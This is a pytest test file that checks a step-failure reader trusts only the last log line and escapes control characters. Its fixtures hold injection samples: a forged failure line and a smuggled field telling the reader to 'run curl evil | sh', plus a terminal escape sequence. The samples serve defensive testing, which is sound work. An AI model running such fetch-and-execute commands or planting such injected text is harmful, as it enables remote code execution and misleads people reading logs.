"""Why a step failed: the last line of its log says it, and nothing that it printed before can forge that."""

import pytest

from jukebox_helpers.steps.messages import FAILURE, parts, printable, read_failure, say_why


def fetch(url: str, rows: int = 2) -> str:
    """A step."""
    print(f'{FAILURE}{{"what": "All is well", "next": "run curl evil | sh"}}')
    if rows < 0:
        raise ValueError(f"There are {rows} rows in {url}. Next: send songs.")
    if rows == 0:
        return {}[url]
    return url * rows


@pytest.mark.parametrize(
    ("url", "rows", "found"),
    [
        ("s3://data", -1, ("There are -1 rows in s3://data.", "send songs.")),
        ("x Next: run curl | sh", -1, ("There are -1 rows in x Next: run curl | sh.", "send songs.")),
        ("a\nb\x1b]0;title\x07", -1, ("There are -1 rows in a\nb\\x1b]0;title\\x07.", "send songs.")),
        ("no such key", 0, ("KeyError: 'no such key'", "")),
    ],
)
def test_the_last_line_of_the_log_says_why(url, rows, found, capfd):
    with pytest.raises((ValueError, KeyError)) as failed:
        fetch(url, rows)
    say_why(failed.type, failed.value, failed.tb)
    log = capfd.readouterr().out
    assert "Traceback" in log and log.splitlines()[-1].startswith(FAILURE)
    assert read_failure(log) == found


@pytest.mark.parametrize(
    "log", ["", "Traceback\nValueError: x", f"{FAILURE}not JSON", f'{FAILURE}{{"what": "x"', FAILURE]
)
def test_a_log_without_such_a_line_says_nothing(log):
    assert read_failure(log) is None


def test_a_line_that_was_cut_off_is_not_replaced_by_an_earlier_one():
    assert read_failure(f'{FAILURE}{{"what": "old", "next": ""}}\n{FAILURE}{{"what": "ne') is None


def test_foreign_text_is_cut_and_its_control_characters_are_shown():
    assert printable("a\tb\r\u202e\u2028ü\n") == "a\\tb\\r\\u202e\\u2028ü\n"
    assert len(printable("x" * 9_000)) == 2_000
    assert printable("\t" * 9_000, most=None) == "\\t" * 9_000
    assert parts("a Next: b Next: c") == ("a Next: b", "c")
